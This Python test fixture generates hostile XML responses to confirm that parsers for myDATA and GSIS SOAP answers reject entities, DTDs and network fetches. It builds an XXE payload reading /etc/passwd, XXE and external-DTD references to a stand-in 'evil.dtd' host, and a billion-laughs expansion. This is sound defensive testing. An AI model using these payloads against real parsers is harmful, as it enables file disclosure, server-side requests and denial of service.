"""Hostile XML documents the stand-in can answer with, to prove that what parses our outside
answers (myDATA's ``ResponseDoc``, GSIS's SOAP) keeps entities, DTDs and the network off: each
must end in a typed failure, never a file read, a fetch or a memory blow-up."""

from __future__ import annotations

from typing import Literal, TypeGuard

HostileDocument = Literal["xxe_file", "xxe_network", "billion_laughs", "external_dtd"]
HOSTILE_DOCUMENTS: tuple[HostileDocument, ...] = (
    "xxe_file",
    "xxe_network",
    "billion_laughs",
    "external_dtd",
)


def is_hostile(kind: str) -> TypeGuard[HostileDocument]:
    return kind in HOSTILE_DOCUMENTS


# Nothing listens there: a parser that fetched it would hang or fail with a network error.
UNREACHABLE = "http://192.0.2.1/evil.dtd"
_LAUGHS = "".join(f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10))


def hostile_document(kind: HostileDocument, root: str, payload_element: str) -> bytes:
    """A document whose ``root`` holds ``payload_element`` filled by the attack of ``kind``."""
    if kind == "xxe_file":
        head = '<!DOCTYPE {r} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        body = "&x;"
    elif kind == "xxe_network":
        head = f'<!DOCTYPE {{r}} [<!ENTITY x SYSTEM "{UNREACHABLE}">]>'
        body = "&x;"
    elif kind == "billion_laughs":
        head = '<!DOCTYPE {r} [<!ENTITY l0 "ha">' + _LAUGHS + "]>"
        body = "&l9;"
    else:
        head = f'<!DOCTYPE {{r}} SYSTEM "{UNREACHABLE}">'
        body = "1"
    text = (
        '<?xml version="1.0" encoding="utf-8"?>'
        + head.format(r=root)
        + f"<{root}><{payload_element}>{body}</{payload_element}></{root}>"
    )
    return text.encode()
